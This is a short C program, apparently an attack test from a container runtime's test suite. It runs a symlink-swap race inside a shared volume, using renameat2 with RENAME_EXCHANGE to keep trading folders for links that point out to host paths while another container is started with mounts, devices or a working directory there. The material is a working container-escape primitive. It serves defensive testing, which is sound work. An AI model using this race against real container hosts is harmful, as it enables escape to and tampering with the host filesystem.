/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * In a container that shares a volume with another: swap folders for links that lead out, as fast as can be, while the
 * other is started with mounts, devices and a working directory in there.
 *
 *	swap VOLUME HOST-FOLDER STOP-FILE
 */
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/attack/attack.h"

static const char *const names[] = { "mount", "device", "cwd", "masked", "sealed", "deep" };

int main(int argc, char **argv)
{
	char folder[PATH_MAX], link[PATH_MAX], up[PATH_MAX];
	unsigned long swaps = 0;

	if (argc != 4)
		return 2;
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		(void)snprintf(folder, sizeof(folder), "%s/%s", argv[1], names[i]);
		(void)snprintf(link, sizeof(link), "%s/%s.link", argv[1], names[i]);
		(void)snprintf(up, sizeof(up), "%s%s", i % 2 ? "../../../../../../../.." : "", argv[2]);
		if ((mkdir(folder, 0777) < 0 && errno != EEXIST) || (symlink(up, link) < 0 && errno != EEXIST))
			return 2;
	}
	(void)printf("swapping\n");
	(void)fflush(stdout);
	while (access(argv[3], F_OK) < 0) {
		for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
			(void)snprintf(folder, sizeof(folder), "%s/%s", argv[1], names[i]);
			(void)snprintf(link, sizeof(link), "%s/%s.link", argv[1], names[i]);
			if (renameat2(AT_FDCWD, folder, AT_FDCWD, link, RENAME_EXCHANGE) == 0)
				swaps++;
		}
	}
	(void)printf("swaps %lu\n", swaps);
	return attack_end();
}
